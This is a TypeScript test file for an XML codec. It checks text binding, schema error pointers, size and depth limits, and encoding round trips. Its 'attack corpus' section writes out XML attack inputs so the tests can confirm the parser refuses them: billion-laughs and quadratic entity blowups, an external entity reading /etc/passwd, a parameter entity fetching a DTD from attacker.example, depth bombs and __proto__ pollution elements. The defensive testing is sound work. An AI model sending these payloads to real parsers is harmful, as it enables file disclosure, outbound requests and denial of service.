/**
 * The XML codec: every example decodes to its JSON twin; the binding rules (verbatim text,
 * arrays from wrapper + items, integers and booleans only when exact); errors land at the right
 * pointer with the right code; and the attack corpus is refused before it can cost anything.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { decodeDocument } from '../../adapters/codec/index.ts';
import { NAKADACHI_NAMESPACE, decodeXml, encodeXml } from '../../adapters/codec/xml.ts';
import type { CanonicalDocument } from '../../gateway/core/document.ts';
import { GatewayError } from '../../gateway/core/errors.ts';
import { createSchemaRegistry } from '../../schemas/registry.ts';

const EXAMPLES = fileURLToPath(new URL('../../schemas/examples/', import.meta.url));
const FIXTURES = fileURLToPath(new URL('../fixtures/codec/', import.meta.url));

const registry = createSchemaRegistry();
const fixtures = createSchemaRegistry(join(FIXTURES, 'schemas'));

const HEADER =
  '<Header><MessageId>M-1</MessageId><Type>Widget</Type><Sender>S1</Sender>' +
  '<SentAt>2031-04-01T09:30:00Z</SentAt></Header>';
const PARTS = '<Parts><Part><PartId>P-1</PartId><Qty>1</Qty></Part></Parts>';
const PRICE = '<Price><Amount>1</Amount><Currency>JPY</Currency></Price>';

/** A Widget whose body holds `body`, plus the required fields not overridden. */
function widgetXml(body: string, root = `<Widget xmlns="${NAKADACHI_NAMESPACE}">`): string {
  const fill = [
    body.includes('<Name') || body.includes('<name') ? '' : '<Name>n</Name>',
    body.includes('<Kind') ? '' : '<Kind>gear</Kind>',
    body.includes('<Count') ? '' : '<Count>1</Count>',
    body.includes('<Price') ? '' : PRICE,
    body.includes('<Parts') ? '' : PARTS,
  ].join('');
  return `${root}${HEADER}<Body>${fill}${body}</Body></Widget>`;
}

function decodedBody(body: string): Record<string, unknown> {
  const result = decodeXml(widgetXml(body), fixtures);
  if (!result.ok) throw new Error(`expected a decode, got ${JSON.stringify(result.error)}`);
  return (result.value as { body: Record<string, unknown> }).body;
}

function refusal(xml: string | Uint8Array, limits?: Parameters<typeof decodeXml>[2]) {
  const result = decodeXml(xml, registry, limits);
  if (result.ok) throw new Error('expected the document to be refused');
  return result.error;
}

function schemaErrors(body: string) {
  const result = decodeDocument(widgetXml(body), 'xml', fixtures);
  if (result.ok) throw new Error('expected the document to be refused');
  expect(result.code).toBe('SCHEMA_VIOLATION');
  return result.errors;
}

describe('examples', () => {
  const files = readdirSync(EXAMPLES).filter((f) => f.endsWith('.xml'));

  it('covers every document type', () => {
    expect(files.map((f) => f.slice(0, -4)).sort()).toEqual([...registry.types]);
  });

  it.each(files)('%s decodes to the JSON example and validates', (file) => {
    const type = file.slice(0, -4);
    const json: unknown = JSON.parse(readFileSync(join(EXAMPLES, `${type}.json`), 'utf8'));
    const result = decodeDocument(readFileSync(join(EXAMPLES, file)), 'xml', registry);
    expect(result.ok ? result.document : result.errors).toStrictEqual(json);
  });

  it('the fixture Widget decodes to its JSON twin (free order, CDATA, references)', () => {
    const json: unknown = JSON.parse(readFileSync(join(FIXTURES, 'widget.json'), 'utf8'));
    const result = decodeDocument(readFileSync(join(FIXTURES, 'widget.xml')), 'xml', fixtures);
    expect(result.ok ? result.document : result.errors).toStrictEqual(json);
  });
});

describe('binding', () => {
  it('keeps text verbatim: spaces, references, CDATA, non-ASCII', () => {
    expect(decodedBody('<Note>  a &lt;&amp;&gt; &quot;&apos; &#x1F600;&#233; </Note>').note).toBe(
      '  a <&> "\' 😀é ',
    );
    expect(decodedBody('<Note><![CDATA[<raw> &amp;]]></Note>').note).toBe('<raw> &amp;');
    expect(decodedBody('<Note>   </Note>').note).toBe('   ');
    expect(decodedBody('<Note/>').note).toBe('');
    expect(decodedBody('<Note></Note>').note).toBe('');
  });

  it('reads line ends as XML does: CRLF is LF, &#xD; is CR', () => {
    expect(decodedBody('<Note>a\r\nb\rc&#xD;</Note>').note).toBe('a\nb\nc\r');
  });

  it('makes arrays from wrapper and item elements, a single item included', () => {
    expect(decodedBody('<Tags><Tag>a</Tag></Tags>').tags).toEqual(['a']);
    expect(decodedBody('<Tags>\n  <Tag>a</Tag>\n  <Tag> b </Tag>\n</Tags>').tags).toEqual([
      'a',
      ' b ',
    ]);
    expect(decodedBody('<Tags/>').tags).toEqual([]);
  });

  it('converts integers and booleans only when the text is exactly one', () => {
    expect(decodedBody('<Count>42</Count>').count).toBe(42);
    expect(decodedBody('<Count>-7</Count>').count).toBe(-7);
    expect(decodedBody('<Active>true</Active>').active).toBe(true);
    for (const text of ['007', '+3', ' 3', '1e2', '0x1F', '-0', '3.0', '', '99999999999999999']) {
      expect(decodedBody(`<Count>${text}</Count>`).count).toBe(text);
    }
    for (const text of ['TRUE', '1', ' true', '']) {
      expect(decodedBody(`<Active>${text}</Active>`).active).toBe(text);
    }
  });

  it('leaves wrong values for the validator, which reports them at their pointer', () => {
    expect(schemaErrors('<Count>007</Count>')).toEqual([
      { path: '/body/count', code: 'SCHEMA_VIOLATION', message: 'must be an integer' },
    ]);
    expect(schemaErrors('<Name><First>x</First></Name>')).toEqual([
      { path: '/body/name', code: 'SCHEMA_VIOLATION', message: 'must be a string' },
    ]);
    expect(schemaErrors('<Price>12</Price>')).toEqual([
      { path: '/body/price', code: 'SCHEMA_VIOLATION', message: 'must be an object' },
    ]);
    expect(schemaErrors('<Tags>a</Tags>')).toEqual([
      { path: '/body/tags', code: 'SCHEMA_VIOLATION', message: 'must be an array' },
    ]);
    expect(schemaErrors('<Colour>red</Colour><Extra><Deep>1</Deep></Extra>')).toEqual([
      { path: '/body/colour', code: 'SCHEMA_VIOLATION', message: 'is not allowed here' },
      { path: '/body/extra', code: 'SCHEMA_VIOLATION', message: 'is not allowed here' },
    ]);
    expect(schemaErrors('<Parts><Part><PartId>P</PartId></Part></Parts>')).toEqual([
      { path: '/body/parts/0/qty', code: 'SCHEMA_VIOLATION', message: 'is required' },
    ]);
  });

  it('validates against the root type: header.type must agree', () => {
    const xml = widgetXml('').replace('<Type>Widget</Type>', '<Type>Gadget</Type>');
    const result = decodeDocument(xml, 'xml', fixtures);
    expect(result.ok ? [] : result.errors).toContainEqual({
      path: '/header/type',
      code: 'SCHEMA_VIOLATION',
      message: 'must be "Widget"',
    });
  });

  it('ignores comments, processing instructions and attributes', () => {
    expect(decodedBody('<!-- c --><?pi x?><Note lang="en">a<!-- c -->b</Note>').note).toBe('ab');
  });

  it('refuses what has no canonical form, at the pointer where it is', () => {
    const cases: [string, string, RegExp][] = [
      ['<Name>a</Name>', '/body/name', /more than once/],
      ['<Price>1<Amount>1</Amount></Price>', '/body/price', /text is not allowed/],
      // Only XML whitespace is layout: a no-break space between elements is content.
      ['<Price>\u00a0<Amount>1</Amount></Price>', '/body/price', /text is not allowed/],
      ['<Tags><Tag>a</Tag><Label>b</Label></Tags>', '/body/tags/1', /<Label>.*<Tag>/],
      ['<note>x</note>', '/body/note', /did you mean <Note>/],
      ['<x:Note xmlns:x="urn:nakadachi:1">x</x:Note>', '/body', /prefixes/],
      ['<Note xmlns="urn:other">x</Note>', '/body/note', /namespace/],
      ['<Constructor>x</Constructor>', '/body', /not allowed/],
      ['<Prototype/>', '/body', /not allowed/],
      [`<${'A'.repeat(300)}/>`, '/body', /too long/],
    ];
    for (const [body, path, message] of cases) {
      const result = decodeXml(widgetXml(`<Name>n</Name>${body}`), fixtures);
      const error = result.ok ? undefined : result.error;
      expect(error).toMatchObject({ path, code: 'MALFORMED_DOCUMENT' });
      expect(error?.message).toMatch(message);
    }
  });

  it('accepts a BOM, bytes, and an explicit UTF-8 declaration', () => {
    const xml = `\uFEFF<?xml version="1.0" encoding="utf-8"?>\n${widgetXml('')}\n<!-- end -->\n`;
    expect(decodeXml(xml, fixtures).ok).toBe(true);
    expect(decodeXml(Buffer.from(xml), fixtures).ok).toBe(true);
  });
});

describe('limits', () => {
  it('refuses more bytes than allowed, counting UTF-8 bytes', () => {
    const xml = widgetXml('<Note>日本語</Note>');
    const bytes = Buffer.byteLength(xml);
    expect(decodeXml(xml, fixtures, { maxBytes: bytes }).ok).toBe(true);
    expect(decodeXml(xml, fixtures, { maxBytes: bytes - 1 }).ok).toBe(false);
    expect(refusal(xml, { maxBytes: bytes - 1 }).code).toBe('PAYLOAD_TOO_LARGE');
    expect(refusal(Buffer.from(xml), { maxBytes: 100 }).code).toBe('PAYLOAD_TOO_LARGE');
    expect(refusal('x'.repeat(1024 * 1024 + 1)).code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('refuses nesting deeper than maxDepth (the root is depth 1)', () => {
    // Widget > Body > X is depth 3; X holds `extra` more levels.
    const nested = (extra: number) =>
      widgetXml(`<X>${'<Y>'.repeat(extra)}a${'</Y>'.repeat(extra)}</X>`);
    expect(decodeXml(nested(29), fixtures).ok).toBe(true);
    expect(decodeXml(nested(30), fixtures)).toMatchObject({
      ok: false,
      error: { code: 'MALFORMED_DOCUMENT', message: 'elements are nested deeper than 32' },
    });
    expect(decodeXml(nested(4), fixtures, { maxDepth: 6 }).ok).toBe(false);
  });

  it('refuses more elements than maxElements', () => {
    const xml = widgetXml('');
    const elements = (xml.match(/<[A-Za-z]/g) ?? []).length;
    expect(decodeXml(xml, fixtures, { maxElements: elements }).ok).toBe(true);
    expect(decodeXml(xml, fixtures, { maxElements: elements - 1 })).toMatchObject({
      ok: false,
      error: {
        code: 'MALFORMED_DOCUMENT',
        message: `document has more than ${elements - 1} elements`,
      },
    });
  });
});

describe('attack corpus', () => {
  const ROOT = `<PurchaseReservation xmlns="${NAKADACHI_NAMESPACE}">`;
  const lol = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`,
  ).join('');
  const cases: [name: string, input: string | Uint8Array, code: string, message?: RegExp][] = [
    [
      'billion laughs',
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${lol}]>${ROOT}&lol9;</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /DOCTYPE/,
    ],
    [
      'quadratic blowup',
      `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(50_000)}">]>${ROOT}${'&a;'.repeat(20_000)}</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /DOCTYPE/,
    ],
    [
      'external entity',
      `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${ROOT}&xxe;</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /DOCTYPE/,
    ],
    [
      'parameter entity',
      `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>${ROOT}</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /DOCTYPE/,
    ],
    [
      'DOCTYPE alone',
      `<!DOCTYPE PurchaseReservation>${ROOT}</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
    ],
    ['lower-case doctype', `<!doctype r>${ROOT}</PurchaseReservation>`, 'MALFORMED_DOCUMENT'],
    ['ENTITY outside a DTD', `${ROOT}<!ENTITY a "b"></PurchaseReservation>`, 'MALFORMED_DOCUMENT'],
    ['ELEMENT declaration', `${ROOT}<!ELEMENT a ANY></PurchaseReservation>`, 'MALFORMED_DOCUMENT'],
    [
      'depth bomb, 10,000 deep',
      `${ROOT}${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
    ],
    [
      'depth bomb under the element limit',
      `${ROOT}${'<a>'.repeat(9_000)}${'</a>'.repeat(9_000)}</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /nested deeper than 32/,
    ],
    [
      '50,000 siblings',
      `${ROOT}${'<a/>'.repeat(50_000)}</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /more than 10000 elements/,
    ],
    [
      'mismatched tags',
      `${ROOT}<a>1</b></PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /line 1, column/,
    ],
    ['unclosed root', ROOT, 'MALFORMED_DOCUMENT'],
    [
      'text after the root',
      `${ROOT}</PurchaseReservation>tail`,
      'MALFORMED_DOCUMENT',
      /Extra text/,
    ],
    ['text after a self-closing root', `${ROOT.replace('>', '/>')}tail`, 'MALFORMED_DOCUMENT'],
    [
      'text after a self-closing root and a comment',
      `${ROOT.replace('>', '/>')}<!-- c -->tail<!-- d -->`,
      'MALFORMED_DOCUMENT',
    ],
    ['text before the root', `lead${ROOT}</PurchaseReservation>`, 'MALFORMED_DOCUMENT'],
    [
      'two roots',
      `${ROOT}</PurchaseReservation>${ROOT}</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /root/,
    ],
    ['two self-closing roots', `${ROOT.replace('>', '/>')}<Other/>`, 'MALFORMED_DOCUMENT', /root/],
    [
      'wrong namespace',
      '<PurchaseReservation xmlns="urn:acme:1"></PurchaseReservation>',
      'MALFORMED_DOCUMENT',
      /namespace/,
    ],
    [
      'no namespace',
      '<PurchaseReservation></PurchaseReservation>',
      'MALFORMED_DOCUMENT',
      /namespace/,
    ],
    [
      'unknown root',
      `<Invoice xmlns="${NAKADACHI_NAMESPACE}"></Invoice>`,
      'UNSUPPORTED_DOCUMENT_TYPE',
    ],
    [
      '__proto__ element',
      `${ROOT}<__proto__><polluted>yes</polluted></__proto__></PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
    ],
    [
      'constructor element',
      `${ROOT}<constructor><prototype/></constructor></PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
    ],
    ['__proto__ root', `<__proto__ xmlns="${NAKADACHI_NAMESPACE}"/>`, 'MALFORMED_DOCUMENT'],
    [
      'non-UTF-8 bytes',
      new Uint8Array([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e]),
      'MALFORMED_DOCUMENT',
      /UTF-8/,
    ],
    [
      'Latin-1 declaration',
      `<?xml version="1.0" encoding="ISO-8859-1"?>${ROOT}</PurchaseReservation>`,
      'MALFORMED_DOCUMENT',
      /UTF-8/,
    ],
    ['control character', `${ROOT}\u0001</PurchaseReservation>`, 'MALFORMED_DOCUMENT', /U\+0001/],
    ['lone surrogate', `${ROOT}\uD800</PurchaseReservation>`, 'MALFORMED_DOCUMENT', /U\+D800/],
    ['NUL character reference', `${ROOT}&#0;</PurchaseReservation>`, 'MALFORMED_DOCUMENT', /&#0;/],
    ['out-of-range reference', `${ROOT}&#x110000;</PurchaseReservation>`, 'MALFORMED_DOCUMENT'],
    ['surrogate reference', `${ROOT}&#xD800;</PurchaseReservation>`, 'MALFORMED_DOCUMENT'],
    ['undeclared entity', `${ROOT}&nbsp;</PurchaseReservation>`, 'MALFORMED_DOCUMENT', /&nbsp;/],
    ['bare ampersand', `${ROOT}a & b</PurchaseReservation>`, 'MALFORMED_DOCUMENT'],
    ['empty input', '', 'MALFORMED_DOCUMENT'],
    ['whitespace only', ' \n ', 'MALFORMED_DOCUMENT'],
    ['JSON sent as XML', '{"header":{}}', 'MALFORMED_DOCUMENT'],
    [
      'duplicate attribute',
      `<PurchaseReservation xmlns="${NAKADACHI_NAMESPACE}" a="1" a="2"/>`,
      'MALFORMED_DOCUMENT',
    ],
  ];

  it.each(cases)('%s is refused', (_name, input, code, message) => {
    const error = refusal(input);
    expect(error.code).toBe(code);
    if (message !== undefined) expect(error.message).toMatch(message);
    expect(error.message.length).toBeLessThanOrEqual(300);
  });

  it('still accepts an empty root with layout and comments around it (the schema refuses it)', () => {
    for (const xml of [
      `<?xml version="1.0"?>\n${ROOT.replace('>', ' />')}\n<!-- c -->\n<?pi x?>\n`,
      `${ROOT}\n</PurchaseReservation>\n`,
    ]) {
      expect(decodeXml(xml, registry)).toEqual({
        ok: true,
        value: {},
        type: 'PurchaseReservation',
      });
      expect(decodeDocument(xml, 'xml', registry)).toMatchObject({
        ok: false,
        code: 'SCHEMA_VIOLATION',
        errors: [{ path: '/header' }, { path: '/body' }],
      });
    }
  });

  it('pollutes nothing', () => {
    for (const [, input] of cases) decodeXml(input, registry);
    const probe: Record<string, unknown> = {};
    expect(probe.polluted).toBeUndefined();
    expect(Object.getPrototypeOf(probe)).toBe(Object.prototype);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  it('reports where the XML is broken', () => {
    expect(refusal(`${ROOT}\n  <a>\n    1</b>\n</PurchaseReservation>`).message).toMatch(
      /line 3, column 6/,
    );
    expect(refusal(`${ROOT}\n<!DOCTYPE x>`).message).toMatch(/line 2, column 1/);
  });
});

describe('encodeXml', () => {
  const doc = JSON.parse(readFileSync(join(FIXTURES, 'widget.json'), 'utf8')) as CanonicalDocument;

  it('writes a declaration, the namespace, and elements in schema order, compactly', () => {
    const shuffled: CanonicalDocument = {
      body: Object.fromEntries(Object.entries(doc.body).reverse()),
      header: doc.header,
    };
    const xml = encodeXml(shuffled, fixtures);
    expect(xml).toMatch(
      /^<\?xml version="1\.0" encoding="UTF-8"\?><Widget xmlns="urn:nakadachi:1"><Header><MessageId>/,
    );
    expect(xml).not.toContain('\n');
    expect(xml.indexOf('<Name>')).toBeLessThan(xml.indexOf('<Parts>'));
    expect(xml).toContain('<Tags><Tag>small</Tag></Tags>');
    expect(xml).toContain('<Count>0</Count><Active>false</Active>');
  });

  it('pretty-prints on request, and both forms decode to the same document', () => {
    const pretty = encodeXml(doc, fixtures, { pretty: true });
    expect(pretty).toContain('\n  <Header>\n');
    for (const xml of [pretty, encodeXml(doc, fixtures)]) {
      const result = decodeXml(xml, fixtures);
      expect(result.ok ? result.value : result.error).toStrictEqual(doc);
    }
  });

  it('escapes markup and keeps CR', () => {
    const tricky = structuredClone(doc);
    tricky.body.note = 'a]]>b</Note><!-- & -->\r\nc\rd';
    const xml = encodeXml(tricky, fixtures);
    expect(xml).toContain('<Note>a]]&gt;b&lt;/Note&gt;&lt;!-- &amp; --&gt;&#xD;\nc&#xD;d</Note>');
    const result = decodeXml(xml, fixtures);
    expect(result.ok ? result.value : result.error).toStrictEqual(tricky);
  });

  it('throws on what the schema cannot express: a bug in the caller, not partner input', () => {
    const cases: [string, (d: CanonicalDocument) => void][] = [
      ['unknown property', (d) => (d.body.colour = 'red')],
      ['unknown type', (d) => (d.header.type = 'Sprocket')],
      ['wrong kind', (d) => (d.body.count = '3')],
      ['a character XML cannot carry', (d) => (d.body.note = 'bell \u0007')],
    ];
    for (const [, edit] of cases) {
      const broken = structuredClone(doc);
      edit(broken);
      expect(() => encodeXml(broken, fixtures)).toThrow(GatewayError);
    }
  });
});

describe('encoding text that looks like markup', () => {
  it.each(['&A;', '&amp;', '&#65;', 'a & b', '&lt;x&gt;', '<![CDATA[x]]>', ']]>'])(
    'keeps %j literally through encode and decode',
    (reason) => {
      const doc: CanonicalDocument = {
        header: {
          messageId: 'M-1',
          type: 'NoAward',
          sender: 'NAKADACHI',
          sentAt: '2036-01-01T00:00:00Z',
          recipient: 'B-1',
        },
        body: { reservationId: 'RSV-1', reason },
      };
      const xml = encodeXml(doc, registry);
      expect(xml).not.toMatch(/&(?!amp;|lt;|gt;|quot;|apos;|#)/);
      const decoded = decodeXml(xml, registry);
      expect(decoded.ok && decoded.value).toEqual(doc);
    },
  );
});
